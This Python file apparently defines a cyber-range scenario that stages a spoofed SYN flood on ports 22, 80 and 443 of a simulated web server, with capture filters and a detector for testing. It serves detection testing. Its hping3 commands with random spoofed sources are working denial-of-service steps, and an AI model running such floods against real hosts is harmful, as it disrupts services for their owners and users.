"""A SYN flood against three ports at once."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker = net.outside("attacker")
    web = net.web()
    net.everyday()
    with net.attack(
        "syn-flood",
        by=attacker,
        victims=[web],
        attacker_known=False,
        also=["ip-spoofing"],
        frames=f"tcp and dst host {web.ip} and (dst port 22 or dst port 80 or dst port 443)",
        responses=f"tcp and src host {web.ip} and dst net not 10.20.0.0/24",
    ):
        for port in (22, 443):
            net.start(attacker, *f"hping3 -q -S --rand-source -p {port} -i u6000 -c 700 {web.ip}".split())
        net.tool(attacker, *f"hping3 -q -S --rand-source -p 80 -i u6000 -c 700 {web.ip}".split())
        net.quiet(1)
    net.quiet(3)


SCENARIO = Scenario(
    name="syn-flood-ports",
    about="Three hping3 send 150 SYNs a second each from random sources, to ports 22, 80 and 443.",
    detectors=("syn-flood",),
    tools={"hping3": "hping3"},
    run=run,
)
